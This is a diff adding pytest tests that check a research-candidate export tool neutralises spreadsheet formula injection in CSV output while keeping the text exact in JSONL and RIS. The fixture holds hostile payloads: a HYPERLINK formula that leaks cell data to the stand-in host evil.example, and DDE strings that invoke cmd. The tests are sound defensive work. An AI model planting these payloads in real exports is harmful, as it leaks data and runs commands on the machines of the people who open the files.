@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from datetime import UTC, datetime
 
 import pytest
@@ -206,3 +207,54 @@ def test_export_writes_to_a_file_with_output(exported, tmp_path):
     out, err = _export(exported, "--status", "accepted", "-o", str(target))
     assert out == "" and err.strip() == "exported 3 candidates"
     assert len(target.read_text(encoding="utf-8").splitlines()) == 3
+
+
+FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full text")'
+FORMULAS = {
+    "title": FORMULA_TITLE,
+    "journal": "+cmd|' /C calc'!A0",
+    "statement": "-2+3 fold rise in non-responders",
+    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "alteration": "\t=1+1",
+    "subtype": "\r=1+1",
+}
+
+
+@pytest.fixture
+def formulas(session: Session, db_url_engine) -> str:
+    """One accepted candidate whose text cells all start like spreadsheet formulas; the DB URL."""
+    paper = make_paper(session, 93_000_009, FORMULA_TITLE, journal=FORMULAS["journal"])
+    make_candidate(
+        session,
+        paper,
+        "ABCB1",
+        score=2.0,
+        status="accepted",
+        model_score=-1.25,
+        **{k: FORMULAS[k] for k in ("statement", "note", "alteration", "subtype")},
+        model_system="MCF7 = 12 lines, '@' and '=' inside",
+        decided_at=DECIDED,
+    )
+    session.commit()
+    return db_url_engine[0]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_get_a_leading_quote(formulas):
+    out, _err = _export(formulas, "--format", "csv")
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    for name, text in FORMULAS.items():
+        assert row[name] == "'" + text, name
+    assert row["model_system"] == "MCF7 = 12 lines, '@' and '=' inside"  # only a first char counts
+    assert row["gene"] == "ABCB1" and row["therapy_class"] == "endocrine"  # the rest untouched
+    assert row["model_score"] == "-1.25"  # a number, not text: a spreadsheet reads it as one
+    assert re.match(r'\d+,93000009,"ABCB1","accepted",2\.0,', out.splitlines()[1])  # text quoted
+
+
+def test_jsonl_and_ris_keep_formula_like_text_exactly(formulas):
+    out, _err = _export(formulas, "--format", "jsonl")
+    row = json.loads(out)
+    assert {name: row[name] for name in FORMULAS} == FORMULAS
+    ris, _err = _export(formulas, "--format", "ris", "--status", "accepted")
+    values = dict(_ris_entries(ris)[0])
+    assert values["TI"] == FORMULA_TITLE and values["JO"] == FORMULAS["journal"]
+    assert values["N1"] == "ABCB1: " + FORMULAS["statement"]
